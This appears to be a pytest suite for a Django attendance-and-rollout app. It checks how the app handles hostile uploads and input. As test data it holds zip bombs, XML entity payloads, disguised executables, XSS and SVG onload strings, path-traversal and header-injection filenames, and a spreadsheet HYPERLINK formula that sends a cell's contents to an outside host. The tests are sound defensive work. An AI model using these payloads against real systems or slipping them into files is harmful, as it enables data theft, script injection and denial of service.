"""What strangers and hurried people send to the rollout: bombs, disguises, formulas, names with paths, another meeting's list."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from checklists.load import load_checklist
from monitor.accounts import second_factor
from monitor.accounts.access import Role
from monitor.cell import tame
from monitor.rollout import keep
from monitor.rollout.meetings.models import Attendee, Meeting
from monitor.rollout.models import Proof, Selection
from monitor.rollout.share import Listed, Terms
from tests.monitor.extract import hostile

BOOK = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
FORMULA = '=HYPERLINK("https://ajeno.example/?"&A1;"abrir")'
SEALED = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def signed_in(role: Role, name: str) -> Client:
    user = User.objects.create_user(name)
    user.groups.add(Group.objects.get(name=role))
    second_factor.enrol(user)
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def infom(db: Any) -> Client:
    codes = sorted(load_checklist().municipalities)[:10]
    listed = [Listed(municipality=code, priority=number) for number, code in enumerate(codes)]
    keep.select("Lista", "PDH", listed, Terms(percent=50), by="ana", now=timezone.now())  # type: ignore[arg-type]
    return signed_in(Role.INFOM, "ana")


def meeting(title: str = "Coordinación", days_ago: int = 1) -> Meeting:
    return Meeting.objects.create(
        kind="reunion", title=title, on=timezone.localdate() - timedelta(days=days_ago), hours="de 9 a 12", place="Salón", called=["0101"]
    )


def words(answer: Any) -> str:
    return " ".join(answer.content.decode().split())


HOSTILE = {
    "a bomb in a workbook": ("lista.xlsx", lambda: hostile.bomb_in("xl/worksheets/sheet1.xml", BOOK, size=100_000_000)),
    "a zip of many": ("lista.xlsx", lambda: hostile.zip_of_many(20_000)),
    "a zip that lies": ("lista.xlsx", hostile.lying_zip),
    "far cells": ("lista.xlsx", hostile.far_cells),
    "entities in ODS": (
        "lista.ods",
        lambda: hostile.entities("content.xml", {"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
    ),
    "a page called a workbook": ("lista.xlsx", lambda: b"<!doctype html><script>alert(1)</script>"),
    "a program called a workbook": ("lista.xlsx", lambda: b"MZ\x90\x00" + b"\0" * 200),
    "a PDF": ("lista.pdf", lambda: hostile.raw_pdf(b"<< /Type /Catalog >>")),
}


@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.parametrize("where", ["attendance", "list"])
def test_a_hostile_file_is_refused_in_words_and_nothing_of_it_is_kept(infom: Client, what: str, where: str) -> None:
    name, body = HOSTILE[what]
    file = SimpleUploadedFile(name, body())
    if where == "attendance":
        answer = infom.post(reverse("rollout:meeting", args=[meeting().pk]), {"file": file})
    else:
        said = {"name": "L", "source": "PDH", "percent": "20", "base": "lacking", "rounding": "up", "file": file}
        answer = infom.post(reverse("rollout:new"), said)
    assert answer.status_code in (200, 422)
    assert "no se pudo leer" in words(answer) or "La hoja no tiene" in words(answer), words(answer)
    assert "alert(1)" not in answer.content.decode()
    assert (Proof.objects.count(), Attendee.objects.count(), Selection.objects.count()) == (0, 0, 1)


@pytest.mark.parametrize("percent", ["1e999999", "1e-99999", "nan", "-5", "0", "9" * 8, "1/0", "١٢"])
def test_an_odd_percentage_is_answered_in_words(infom: Client, percent: str) -> None:
    file = SimpleUploadedFile("lista.csv", "Municipio,Departamento\nNebaj,Quiché\nMixco,Guatemala\n".encode())
    said = {"name": "L", "source": "PDH", "percent": percent, "base": "lacking", "rounding": "up", "file": file}
    answer = infom.post(reverse("rollout:new"), said)
    assert 'class="error' in answer.content.decode(), words(answer)
    assert Selection.objects.count() == 1


def test_a_file_of_any_type_is_given_to_be_saved_and_never_opened_here(infom: Client) -> None:
    for name in ("../../etc/passwd.svg", "..\\..\\a.html", 'x"; filename="y.html', "a\r\nSet-Cookie: x=1.html", "=2+5.csv"):
        kept = keep.add_proof(
            ContentFile(SEALED.encode() + name.encode(), name=name),
            kind="otro",
            title="x",
            dated_on=None,
            by="ana",
            now=timezone.now(),
            shown=True,
        )
        answer = Client().get(reverse("rollout:proof", args=[kept.pk]))
        assert answer["Content-Type"] == "application/octet-stream"
        assert answer["Content-Disposition"].startswith("attachment;")
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert not {"/", "\\"} & set(kept.name)
        assert ".." not in kept.file.name
        assert "Set-Cookie" not in answer.headers


def test_a_private_proof_and_a_meetings_papers_are_for_infom_alone_whatever_number_one_tries(infom: Client) -> None:
    row = meeting()
    Attendee.objects.create(meeting=row, municipality="0101", name="Persona Privada", how="lista")
    kept = keep.add_proof(ContentFile(b"firmas", name="lista.pdf"), kind="lista", title="x", dated_on=None, by="ana", now=timezone.now())
    private = [reverse("rollout:proof", args=[kept.pk]), reverse("rollout:meeting", args=[row.pk])]
    private += [
        reverse("rollout:paper", args=[row.pk, kind]) for kind in ("formulario.xlsx", "formulario.pdf", "puerta.pdf", "constancias.pdf")
    ]
    for address in private:
        assert infom.get(address).status_code == 200, address
        assert Client().get(address).status_code in (302, 403), address
    for role in set(Role) - {Role.INFOM}:
        other = signed_in(role, f"otra-{role.name.lower()}")
        assert {other.get(address).status_code for address in private} == {403}
    for address in ("overview", "plan", "meetings"):
        assert "Persona Privada" not in words(Client().get(reverse(f"rollout:{address}")))


def test_a_list_read_for_one_meeting_settles_no_other(infom: Client) -> None:
    first, other = meeting("Una"), meeting("Otra")
    text = "Nombre,Municipio\nPersona Uno,Guatemala\n"
    page = infom.post(reverse("rollout:meeting", args=[first.pk]), {"file": SimpleUploadedFile("lista.csv", text.encode())})
    said = {"sealed": page.context["sealed"], "take-2": "on"}
    for sealed in (said, {**said, "sealed": said["sealed"][:-2] + "xx"}, {"take-2": "on"}):
        answer = infom.post(reverse("rollout:take", args=[other.pk]), sealed)
        assert (answer.status_code, "Envíe la lista otra vez" in words(answer)) == (409, True)
    assert not Attendee.objects.exists()
    infom.post(reverse("rollout:take", args=[first.pk]), said)
    assert Attendee.objects.get().meeting == first


def test_a_file_that_was_shown_is_hidden_once_it_turns_out_to_be_a_list_of_people(infom: Client) -> None:
    body = b"Nombre,Municipio\nPersona Uno,Guatemala\n"
    kept = keep.add_proof(ContentFile(body, name="a.csv"), kind="otro", title="x", dated_on=None, by="ana", now=timezone.now(), shown=True)
    address = reverse("rollout:proof", args=[kept.pk])
    assert Client().get(address).status_code == 200
    infom.post(reverse("rollout:meeting", args=[meeting().pk]), {"file": SimpleUploadedFile("lista.csv", body)})
    assert Client().get(address).status_code == 403
    infom.post(reverse("rollout:document_show", args=[kept.pk, "mostrar"]))
    assert Client().get(address).status_code == 403


def test_what_people_write_is_a_text_in_a_workbook_and_in_a_page_never_a_formula_nor_a_script(infom: Client) -> None:
    row = meeting(FORMULA)
    book = openpyxl.load_workbook(io.BytesIO(infom.get(reverse("rollout:paper", args=[row.pk, "formulario.xlsx"])).content))
    assert [(cell.value, cell.data_type) for cell in book.active["A"][1:2]] == [(FORMULA, "s")]
    Meeting.objects.update(title="<script>alert(1)</script>", agenda="<img src=x onerror=alert(1)>\nhttps://ajeno.example")
    public = Client().get(reverse("rollout:meetings")).content.decode()
    assert "<script" not in public
    assert "<img" not in public


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_a_cell_that_would_run_has_an_apostrophe_before_it(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([tame(text), tame(-1), tame(None), tame("Nebaj")])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [f"'{text}", "-1", "", "Nebaj"]


def test_the_door_is_open_to_its_key_alone_and_takes_no_more_than_the_form_asks(db: Any) -> None:
    row = meeting(days_ago=0)
    door = reverse("rollout:door", args=[row.door])
    for key in (row.door[:-1], row.door.swapcase(), str(row.pk), row.door + "0"):
        assert Client().get(reverse("rollout:door", args=[key])).status_code == 404
    assert Client().post(door, {"name": "P" * 121, "post": "x", "municipality": "0101"}).status_code in (200, 422)
    assert Client().post(door, {"name": "Persona", "post": "x", "municipality": "0999"}).status_code in (200, 422)
    assert not Attendee.objects.exists()
    Client().post(door, {"name": "Persona", "post": "Alcalde", "municipality": "0101"})
    assert "Persona" not in words(Client().get(door))


def test_whoever_has_the_code_of_the_door_cannot_fill_the_list_without_end(db: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("monitor.rollout.meetings.keep.AT_THE_DOOR", 2)
    door = reverse("rollout:door", args=[meeting(days_ago=0).door])
    answers = [words(Client().post(door, {"name": f"Persona {name}", "post": "Alcalde", "municipality": "0101"})) for name in "ABC"]
    assert ["demasiadas personas" in answer for answer in answers] == [False, False, True]
    assert Attendee.objects.count() == 2
